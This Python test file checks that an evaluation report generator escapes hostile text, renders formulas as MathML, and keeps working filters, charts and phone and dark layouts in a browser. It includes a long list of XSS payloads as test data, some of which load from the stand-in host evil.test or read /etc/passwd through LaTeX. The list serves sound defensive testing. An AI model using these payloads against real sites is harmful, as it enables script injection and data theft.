"""The report in a real browser: nothing hostile runs, formulas and charts are shown, filters work, phone and dark."""

import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from mlxmath.evaluation.latex import formula, to_html
from mlxmath.evaluation.report import card, page, view_of
from mlxmath.evaluation.score import Scored, collect, results
from tests.evaluation.make import sample, settings

HOSTILE = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
NOW = datetime(2026, 1, 2, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It costs $5 and then $6.", "It costs $5 and then $6."),
        ("from $5-$6 <b>", "from $5-$6 &lt;b&gt;"),
        ("unread $\\frac{1}{$ &", '<code class="tex">$\\frac{1}{$</code>'),
    ],
)
def test_text_that_is_no_formula_stays(text: str, expected: str) -> None:
    assert expected in to_html(text)


@pytest.mark.parametrize(
    ("text", "element"),
    [
        ("so $\\frac{1}{2}$.", "<mfrac>"), ("\\[ x^2 \\]", 'display="block"'), ("\\(a_1\\)", "<msub>"),
        ("\\boxed{\\frac{1}{2}}", 'class="boxed"'), ("$$\\sqrt{2}$$", "<msqrt>"),
        ("\\begin{align*}a&=b\\\\c&=d\\end{align*}", "<mtable"), ("$x<3$", "&lt;"),
    ],
)  # fmt: skip
def test_formulas_become_mathml(text: str, element: str) -> None:
    assert element in to_html(text) and "<math" in to_html(text)


@pytest.mark.parametrize(
    "text",
    ["\\text{<script>x</script>}", "\\href{javascript:x}{y}", "\\style{x:y}{z}", '\\class{" onclick="x}{y}'],
)
def test_hostile_formulas_are_harmless(text: str) -> None:
    assert not re.search("<script|href|onclick=|style=", formula(text) or "")


def test_a_hostile_name_or_answer_is_escaped_everywhere() -> None:
    made = [sample(HOSTILE, i, HOSTILE, question=HOSTILE, gold=HOSTILE, response=HOSTILE, subject=f"{HOSTILE}{i}",
                   level=HOSTILE, solution=HOSTILE) for i in range(3)]  # fmt: skip
    view = view_of(*scored_with(made, settings(HOSTILE)), NOW)
    text = page(view)
    assert text.count("<script>") == 1 and "<img" not in text and "<" not in card(view)
    assert re.search(r"default-src 'none'; style-src 'sha256-[\w+/=]+'; script-src 'sha256-", text)


def scored_with(made: list, chosen: dict) -> tuple[dict, Scored]:
    scored = collect(made, [one["label"] for one in chosen["contestants"]], chosen["samples"])
    return results(scored, chosen), scored


MARKS = "\x00\x07\x08\x0b\x1b[2J\x1b]0;owned\x07\x7f\x9b31m\u202e\u2066\u200f\u2028\ufeff\ud800"
HOSTILES = [
    HOSTILE, "<script src=//evil.test/x.js></script>", "</script><script>document.title='owned'</script>",
    "</style><style>@import url(//evil.test/x.css);</style>", "<style>*{background:url(//evil.test/x)}</style>",
    "<svg onload=\"document.title='owned'\">", "<svg><script>document.title='owned'</script></svg>",
    "<math><mtext><img src=//evil.test/x onerror=alert(1)></mtext></math>", "<iframe src=//evil.test></iframe>",
    "<iframe srcdoc='<script>top.document.title=1</script>'>", "<object data=//evil.test/x></object>",
    "<embed src=//evil.test/x>", "<link rel=stylesheet href=//evil.test/x>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<form action=//evil.test><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<video src=//evil.test/x autoplay>",
    "<audio src=//evil.test/x autoplay>", "<a href=javascript:alert(1) autofocus>x</a>", "<template><script>1</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='//evil.test/x'?>", "<title>owned</title>",
    "<plaintext>", "<textarea>", "<select>", "</main></body></html>", "</div></div></div></article></details>",
    "\" onmouseover=\"alert(1)\" x=\"", "' onclick='alert(1)' x='", "` onclick=alert(1) ", "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}",
    "&lt;script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", MARKS,
    f"{MARKS}<script>{MARKS}", "\u202e<b>gnp.exe", "$\\text{<script>document.title='owned'</script>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$", "$\\href{javascript:alert(1)}{x}$", "$\\url{javascript:alert(1)}$",
    "$\\includegraphics{//evil.test/x}$", "$\\style{background:url(//evil.test/x)}{x}$", "$\\class{a}{x}$",
    "$\\cssId{a}{x}$",
    "$\\html{<img src=x>}$", "$\\unicode{x3c}img$", "$\\def\\a{\\a\\a}\\a$", "\\[ \\input{/etc/passwd} \\]",
    "\\begin{align}<script>alert(1)</script>\\end{align}", "\\boxed{<img src=x onerror=alert(1)>}",
    "$x_{\"><img src=x onerror=alert(1)>}$",
    f"$\\text{{{MARKS}}}$", "![x](//evil.test/x.png)", "[x](javascript:alert(1))", "x | y |\n|---|---|\n<img src=x>",
    "\\[" * 5000, "$" + "{" * 190 + "<b>" + "}" * 190 + "$",
]  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every text of others on the page is hostile: answers, solutions, names of models, data, groups and devices."""
    made = [
        sample(label, i, text, question=f"Q{i} {text}", gold=text, response=f"A{i} {text}", subject=text,
               level=HOSTILES[-i], solution=text, id=f"{text}/{i}", extracted=text, benchmark=HOSTILE,
               correct=i % 3 == j)
        for i, text in enumerate(HOSTILES) for j, label in enumerate((HOSTILE, f"{HOSTILES[2]}{MARKS}"))
    ]  # fmt: skip
    chosen = settings(HOSTILE, f"{HOSTILES[2]}{MARKS}", retrieve=HOSTILE, template=HOSTILE)
    chosen["benchmarks"], chosen["device"] = [{"name": HOSTILE}], {"name": HOSTILE, "dtype": HOSTILES[1]}
    for one in chosen["contestants"]:
        one |= {"folder": HOSTILE, "adapter_folder": HOSTILES[2], "asked_in": HOSTILES[5]}
    view = view_of(*scored_with(made, chosen), NOW)
    path = tmp_path_factory.mktemp("hostile") / "report.html"
    path.write_text(page(view), encoding="utf-8")
    (path.parent / "model_card.md").write_text(card(view), encoding="utf-8")
    return path


def test_no_control_character_comes_into_the_page_or_the_card(hostile: Path) -> None:
    for file in (hostile, hostile.with_name("model_card.md")):
        text = file.read_text(encoding="utf-8")
        assert not set(text) & (set(MARKS) - set("[2J]0;owned31m"))
    assert not re.search(r"<|(?<!\\)(\\\\)*[\[\]]", hostile.with_name("model_card.md").read_text(encoding="utf-8"))


def test_nothing_hostile_runs_or_is_fetched_in_a_browser(chromium: Any, hostile: Path) -> None:
    tab, troubles = opened(chromium, hostile, viewport={"width": 1200, "height": 900})
    tab.on("dialog", lambda dialog: troubles.append(dialog.message))
    assert len(HOSTILES) >= 60 and visible(tab) == len(HOSTILES)
    tab.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true; })")
    for each in tab.locator("#explorer button, .search input").all():
        each.click()
    tab.wait_for_timeout(200)
    names, attributes = tab.evaluate("""() => {
        const all = [...document.querySelectorAll("body *, head *")];
        return [all.map(e => e.localName), all.flatMap(e => e.getAttributeNames().map(n => [n, e.getAttribute(n)]))];
    }""")
    assert names.count("script") == names.count("style") == 1
    assert not set(names) & {"img", "iframe", "object", "embed", "base", "form", "video", "audio", "textarea", "a"}
    assert not [n for n, _ in attributes if n.startswith("on") or n in ("src", "srcdoc", "style", "action")]
    assert [value for name, value in attributes if name == "href"] == ["data:,"]
    assert tab.locator(".side .text").count() == 2 * len(HOSTILES)
    assert HOSTILE in tab.locator("#problems").inner_text()
    assert troubles == [] and tab.title().endswith("mlxmath evaluation") and tab.url == hostile.as_uri()


def test_how_this_was_measured_names_everything() -> None:
    made = [sample(label, i, "1", finish_reason="length" if i < cut else "stop", response="1 + 1 = 2\n#### 1")
            for label, cut in (("base", 2), ("tuned", 0)) for i in range(4)]  # fmt: skip
    chosen = settings("base", "tuned", decoding={"base": "64 at a time", "tuned": "1 at a time"})
    chosen["benchmarks"] = [{"name": "b", "max_tokens": 1234}]
    shared = {"folder": "models/qwen", "model": "ab12"}
    chosen["contestants"][0] |= {**shared, "adapter_folder": None, "asked_in": "chat"}
    chosen["contestants"][1] |= {**shared, "adapter": "cd34", "adapter_folder": "runs/a", "asked_in": "tutor"}
    view = view_of(*scored_with(made, chosen), NOW)
    told = ["templates chat (base), tutor (tuned)", "at most 1,234 tokens", "base 2, tuned 0", "100.0 % of 4"]
    assert [text for text in told if text not in card(view)] == []  # the last: soundness with the answers that it is of
    told += [
        "base 64 at a time; tuned 1 at a time",
        "models/qwen, template chat",
        "models/qwen with runs/a, template tutor",
    ]
    assert [text for text in told if text not in page(view)] == []
    assert "ab12" not in page(view) and "cd34" not in page(view)


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Forty problems, two models: 10 fixed, 10 broken, 10 right twice, 10 wrong twice; formulas; a hostile answer."""
    made = []
    for i in range(40):
        shared = {"subject": ("algebra", "geometry")[i % 2], "level": str(i % 3 + 1), "gold": "\\frac{1}{2}",
                  "question": f"Problem {i}: what is $\\frac{{{i}}}{{{2 * i}}}$?"}  # fmt: skip
        for label, right in (("base", i < 20), ("tuned", 10 <= i < 30)):
            text = f"We get $x = \\frac{{1}}{{2}}$.\n\\[ x^2 = {i} \\]\n\\boxed{{{1 if right else i + 2}}}"
            text = f"{text} {HOSTILE}" if i == 39 else text
            made.append(sample(label, i, "1", correct=right, response=text, **shared))
    path = tmp_path_factory.mktemp("report") / "report.html"
    path.write_text(page(view_of(*scored_with(made, settings("base", "tuned")), NOW)))
    return path


def opened(chromium: Any, report: Path, **context: Any) -> tuple[Any, list[str]]:
    """The page, and a list that collects what goes wrong in it."""
    troubles: list[str] = []
    tab = chromium.new_context(**context).new_page()
    tab.on("console", lambda message: troubles.append(message.text))
    tab.on("pageerror", lambda error: troubles.append(str(error)))
    tab.on(
        "request", lambda request: None if request.url.startswith(("file:", "data:")) else troubles.append(request.url)
    )
    tab.goto(report.as_uri())
    return tab, troubles


def visible(tab: Any) -> int:
    return tab.locator(".problem:visible").count()


def test_filters_formulas_and_charts(chromium: Any, report: Path) -> None:
    tab, troubles = opened(chromium, report, viewport={"width": 1200, "height": 900})
    assert visible(tab) == 40
    for name, count in (("fixed", 10), ("broken", 10), ("both right", 10), ("both wrong", 10), ("all", 40)):
        button = tab.get_by_role("button", name=re.compile(f"^{name} "))
        assert button.inner_text() == f"{name} {count}"
        button.click()
        assert visible(tab) == count and button.get_attribute("aria-pressed") == "true"
        assert tab.locator("#count").inner_text() == f"{count} of 40 problems"
    tab.locator("#search").fill("problem 17:")
    assert visible(tab) == 1
    tab.locator("#search").fill("")
    tab.locator("[data-group=subject]").select_option("geometry")
    assert visible(tab) == 20
    tab.locator("#category").select_option("loop")
    assert visible(tab) == 0 and tab.locator("#none").is_visible()
    tab.locator("#category").select_option("")
    tab.locator("[data-group=subject]").select_option("")
    first = tab.locator(".problem").first
    first.locator("summary").first.click()
    assert first.locator(".side").count() == 2
    fraction = first.locator(".question mfrac")
    numerator, denominator = (fraction.locator(f"> :nth-child({i})").bounding_box() for i in (1, 2))
    assert numerator["y"] + numerator["height"] <= denominator["y"] + 1  # drawn one above the other
    assert first.locator(".side math[display=block]").count() == 2
    point = tab.locator("svg.bar circle.f1").first.bounding_box()
    axis = tab.locator("svg.bar").first.bounding_box()
    assert point["width"] == 12
    assert point["x"] + 6 - axis["x"] == pytest.approx(axis["width"] / 2, abs=1)  # 20 of 40
    assert troubles == [] and tab.title() == "b · mlxmath evaluation"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_in_the_light_and_in_the_dark(chromium: Any, report: Path, scheme: str) -> None:
    tab, troubles = opened(chromium, report, viewport={"width": 360, "height": 740}, color_scheme=scheme)
    tab.locator(".problem").last.locator("summary").first.click()
    assert tab.evaluate("document.documentElement.scrollWidth") <= 360
    colors = "['color', 'backgroundColor'].map(k => getComputedStyle(document.body)[k].match(/\\d+/g).map(Number))"
    ink, ground = tab.evaluate(colors)
    assert (sum(ink) < 200 and sum(ground) > 700) if scheme == "light" else (sum(ink) > 650 and sum(ground) < 120)
    assert troubles == [] and tab.title() == "b · mlxmath evaluation"
